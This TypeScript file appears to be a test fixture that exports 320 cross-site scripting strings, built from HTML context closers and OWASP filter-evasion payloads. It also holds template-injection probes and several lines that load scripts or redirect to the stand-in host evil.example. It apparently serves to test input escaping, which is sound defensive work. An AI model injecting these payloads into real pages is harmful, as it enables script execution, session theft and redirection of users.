/** Prefixes that close the HTML context of a text. */
const CLOSERS = ['', '">', "'>", '</title>', '</textarea></option></select>', '-->', '" x="', '</script>'];

/** Payloads (from OWASP's filter evasion cheat sheet, and for our own templates). */
const RUNNERS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/a.js></sCrIpT>',
  '<script/x>alert(1)//',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert&#40;1)">',
  '<img/src/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">báo cáo</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,x">',
  '<form action="javascript:alert(1)"><button>Gửi</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>@import "//evil.example/a.css";</style>',
  '<p style="background:url(//evil.example/a)">x</p>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<template><script>alert(1)</script></template>',
  'onmouseover=alert(1) x=',
  'autofocus onfocus=alert(1) tabindex=1 ',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)',
  '<%= process.env %><%~ 7*7 %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attack on template strings looks like
  '{{7*7}}${7*7}#{7*7}',
  ']]><script>alert(1)</script>',
  '<!--<script>alert(1)//',
  '＜script＞alert(1)＜/script＞',
];

/** 320 texts that execute in a page without escaping; all fit a line of a form. */
export const ATTACK_TEXTS: readonly string[] = CLOSERS.flatMap((closer) =>
  RUNNERS.map((runner) => `${closer}${runner}`.trim()),
);
